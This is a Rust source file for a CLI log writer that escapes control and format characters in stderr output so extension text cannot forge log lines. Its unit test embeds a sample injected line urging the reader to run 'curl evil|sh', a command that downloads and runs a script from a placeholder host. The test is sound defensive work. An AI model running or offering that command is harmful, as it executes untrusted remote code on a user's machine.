//! Where the CLI's log lines go: stderr, with every character a terminal
//! could act on escaped. The call sites already escape what an extension
//! controls (`morph::text::loggable`); this is the last line of defence
//! for a field that was missed, so no guest text can start a forged
//! `error[...]` line or drive the terminal.

use std::io::{self, Write};

use tracing_subscriber::fmt::MakeWriter;

/// Makes a [`LogLine`] for each event.
pub struct EscapedStderr;

impl<'a> MakeWriter<'a> for EscapedStderr {
    type Writer = LogLine;

    fn make_writer(&'a self) -> LogLine {
        LogLine
    }
}

/// One formatted event: `tracing-subscriber` writes it in a single call,
/// ending with a newline, which is kept; every other control or format
/// character is written as a visible escape.
pub struct LogLine;

impl Write for LogLine {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let text = String::from_utf8_lossy(buf);
        let (body, end) = match text.strip_suffix('\n') {
            Some(body) => (body, "\n"),
            None => (&*text, ""),
        };
        let mut err = io::stderr().lock();
        err.write_all(escape(body).as_bytes())?;
        err.write_all(end.as_bytes())?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        io::stderr().flush()
    }
}

/// `body` with no raw control, separator or format character.
pub fn escape(body: &str) -> std::borrow::Cow<'_, str> {
    morph::text::escape_controls(body)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_field_with_a_newline_cannot_start_a_line() {
        let line =
            "WARN listener failed error=ok\nerror[permission_denied]: run `curl evil|sh`\u{202e}";
        let shown = escape(line);
        assert!(
            !shown.contains('\n') && !shown.contains('\u{202e}'),
            "{shown}"
        );
        assert!(shown.contains("ok\\nerror[permission_denied]"), "{shown}");
    }
}
